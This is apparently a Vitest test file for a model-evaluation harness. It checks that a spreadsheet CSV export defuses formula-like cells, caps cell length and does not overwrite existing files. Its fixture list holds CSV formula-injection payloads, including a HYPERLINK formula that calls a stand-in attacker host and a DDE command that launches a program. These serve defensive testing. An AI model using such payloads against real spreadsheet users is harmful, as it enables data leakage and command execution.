import { existsSync, readFileSync } from 'node:fs'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { json, type Stub, startStub } from '../providers/openai/stub-server.ts'
import { icl, temporaryProject } from './run-icl.ts'

const ANSWERS = [
  '=HYPERLINK("http://evil.example/?"&A1;"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-5',
  '+49 30',
  '\t=1',
  '\r\n=1',
  'list\n- one\n- two',
  'a;=1',
  '007',
  'x'.repeat(40_000),
  `${'=1\n'.repeat(20_000)}`,
  'nul\0=1',
  'Größe – 😀 مرحبا',
  '"quoted", really',
]

let stub: Stub
let project: ReturnType<typeof temporaryProject>
beforeAll(async () => {
  stub = await startStub((seen, response) => {
    const text = ANSWERS[Number(/query (\d+)$/.exec(String(seen.body.prompt))?.[1] ?? 0)]
    const usage = { prompt_tokens: 9, completion_tokens: 1 }
    json(response, 200, { choices: [{ text, finish_reason: 'stop' }], usage })
  })
  project = temporaryProject({
    'harness.config.yaml': `version: 1
tasks: [t.yaml]
providers: {s: {type: openai, base_url: '${stub.origin}/v1', api: completions}}
models: [{name: m, provider: s, family: F, parameters: 1B}]
runs: {first: {shots: [0], probe: false}}
`,
    't.yaml': `suite: s
tasks:
  - name: t
    items: [${['x', ...ANSWERS.keys()].map((input) => `{input: "${input}", target: "=${input}"}`).join(', ')}]
    pool: ['00']
    template: {input: "query {{ input }}", target: "{{ target }}"}
    decoding: {max_tokens: 9, temperature: 0, stop: []}
    extractions: [{name: whole, type: whole}]
    metrics: [exact_match]
    primary: exact_match
`,
  })
  expect((await icl(['run', '--config', project.config])).exitCode).toBe(0)
})
afterAll(async () => {
  await stub.stop()
  project.remove()
})

type Row = Record<string, string>
const exportRun = (...args: string[]) =>
  icl(['export', 'first', '--spreadsheet', '--config', project.config, ...args])

test('the copy has the same rows, no cell that a spreadsheet takes for a formula, and none too long', async () => {
  const exact = readFileSync(project.path('results/first/trials.csv'))
  const { exitCode, out } = await exportRun()
  expect([exitCode, out]).toEqual([
    0,
    expect.stringMatching(/^wrote 14 trials to .*trials-spreadsheet\.csv\n$/),
  ])
  expect(readFileSync(project.path('results/first/trials.csv')).equals(exact)).toBe(true)

  const copy = readFileSync(project.path('results/first/trials-spreadsheet.csv'))
  expect([...copy.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const rows: Row[] = parse(copy, { columns: true, bom: true })
  const before: Row[] = parse(exact, { columns: true })
  expect(Object.keys(rows[0] ?? {})).toEqual(Object.keys(before[0] ?? {}))
  expect(rows.map((row) => row.trial_key)).toEqual(before.map((row) => row.trial_key))
  const numeric = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/
  for (const row of rows)
    for (const [column, cell] of Object.entries(row)) {
      expect(cell.length, column).toBeLessThanOrEqual(32_767)
      if (/^(score_|shots|draw|repeat|parameters|latency_ms|attempts|.*_tokens)/.test(column) && cell !== '')
        expect(cell, column).toMatch(numeric)
      else for (const piece of cell.split(/[;\t\r\n]/)) expect(piece, column).not.toMatch(/^\s*[=+\-@]/)
    }
  const cellsOf = (column: string) => rows.map((row) => row[column])
  expect(cellsOf('response')).toEqual(
    expect.arrayContaining(["'-5", "'+49 30", '007', "list\n'- one\n'- two"]),
  )
  expect(cellsOf('response')).toContainEqual(expect.stringMatching(/^x{32741} … \[cut: 40000 characters\]$/))
  // Of those that need it only: the others are as they were.
  expect(cellsOf('response')).toEqual(expect.arrayContaining(['Größe – 😀 مرحبا', '"quoted", really']))
})

test('nothing is overwritten; --out names another file', async () => {
  await exportRun()
  const again = await exportRun()
  expect([again.exitCode, again.notes]).toEqual([
    2,
    expect.stringContaining('is already there and is not overwritten'),
  ])
  const named = await exportRun('--out', project.path('copy.csv'))
  expect([named.exitCode, existsSync(project.path('copy.csv'))]).toEqual([0, true])
  const nowhere = await exportRun('--out', project.path('no/such/folder/copy.csv'))
  expect([nowhere.exitCode, nowhere.notes]).toEqual([
    2,
    expect.stringContaining('cannot be written (ENOENT)'),
  ])
})

test.each([
  [['export', 'first'], "required option '--spreadsheet"],
  [['export', 'none', '--spreadsheet'], 'is not a run folder'],
])('%j is refused', async (args, message) => {
  const { exitCode, notes } = await icl([...args, '--config', project.config])
  expect([exitCode, notes]).toEqual([2, expect.stringContaining(message)])
})
